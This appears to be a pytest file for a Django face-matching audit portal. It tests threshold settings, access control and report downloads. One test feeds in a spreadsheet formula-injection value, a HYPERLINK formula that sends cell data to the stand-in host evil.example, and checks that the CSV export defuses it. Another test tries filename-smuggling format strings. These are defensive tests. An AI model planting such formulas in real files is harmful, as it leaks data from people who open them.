from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from matching.models import AuditGroup
from portal.models import AuditEvent
from tests.factories import audit_run_rows


def test_org_admin_sees_threshold_advice_from_the_latest_audit(client, dana, audit_run):
    client.force_login(dana)

    page = client.get(reverse("matching:organisation_settings")).content.decode()

    worst = min(
        (g for g in audit_run.groups.filter(insufficient=False).exclude(key="all") if g.threshold_at_target),
        key=lambda g: g.threshold_at_target,
    )
    assert worst.key in page and f"{worst.threshold_at_target:.3f}" in page
    assert "of true matches would be missed" in page


def test_changing_the_threshold_is_recorded(client, dana, org):
    client.force_login(dana)

    response = client.post(
        reverse("matching:organisation_settings"),
        {"distance_threshold": "0.5", "max_candidates": "5", "target_fmr": "0.001", "audit_max_age_days": "180"},
    )

    assert response.status_code == 302
    org.refresh_from_db()
    assert org.distance_threshold == 0.5
    event = AuditEvent.objects.get(action="organisation.update")
    assert event.actor == dana and event.detail["changes"]["distance_threshold"] == [0.6, 0.5]


def test_a_bad_threshold_is_refused_and_nothing_changes(client, dana, org):
    client.force_login(dana)

    response = client.post(
        reverse("matching:organisation_settings"),
        {"distance_threshold": "7", "max_candidates": "5", "target_fmr": "0.001", "audit_max_age_days": "180"},
    )

    assert response.status_code == 400
    org.refresh_from_db()
    assert org.distance_threshold == 0.6 and not AuditEvent.objects.filter(action="organisation.update").exists()


def test_reviewers_and_caseworkers_cannot_change_settings(client, bob, alice):
    for user in (bob, alice):
        client.force_login(user)
        assert client.get(reverse("matching:organisation_settings")).status_code == 404


def test_the_audit_report_page_and_downloads(client, bob, audit_run, charlie):
    client.force_login(bob)

    page = client.get(reverse("matching:audit_report", args=[audit_run.pk]))
    csv_body = client.get(reverse("matching:audit_report_download", args=[audit_run.pk, "csv"])).content.decode()
    json_body = client.get(reverse("matching:audit_report_download", args=[audit_run.pk, "json"])).json()

    assert page.status_code == 200 and "<svg" in page.content.decode()
    assert csv_body.splitlines()[0].startswith("group,identities,photos")
    assert json_body["run"]["id"] == audit_run.pk
    client.force_login(charlie)
    assert client.get(reverse("matching:audit_report", args=[audit_run.pk])).status_code == 404


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_audit_csv_download_defuses_cells_a_spreadsheet_would_run(client, bob, org, start):
    # given: an evaluation set whose uploader named a column with a formula, so that it leads a group key
    run = audit_run_rows(org)
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Open")=White'
    AuditGroup.objects.filter(run=run).update(key=formula)
    client.force_login(bob)

    # when: a reviewer downloads the report as CSV
    response = client.get(reverse("matching:audit_report_download", args=[run.pk, "csv"]))

    # then: the cell is text, quoted, and nothing else changed
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert response.status_code == 200
    assert rows[1][0] == f"'{formula}"
    assert rows[1][1:4] == ["2", "4", "4"]


def test_the_audit_csv_download_leaves_plain_cells_alone(client, bob, org):
    run = audit_run_rows(org)
    AuditGroup.objects.filter(run=run).update(key="race=White & age_group=18 and over")
    client.force_login(bob)

    response = client.get(reverse("matching:audit_report_download", args=[run.pk, "csv"]))

    assert list(csv.reader(io.StringIO(response.content.decode())))[1][0] == "race=White & age_group=18 and over"


@pytest.mark.parametrize("fmt", ["html", "exe", "CSV", 'csv";filename="report.exe', "json.html"])
def test_the_audit_download_serves_only_csv_and_json(client, bob, org, fmt):
    run = audit_run_rows(org)
    client.force_login(bob)

    response = client.get(f"/audits/runs/{run.pk}/download.{fmt}")

    assert response.status_code == 404
    assert "Content-Disposition" not in response
    assert not AuditEvent.objects.filter(action="audit.export").exists()
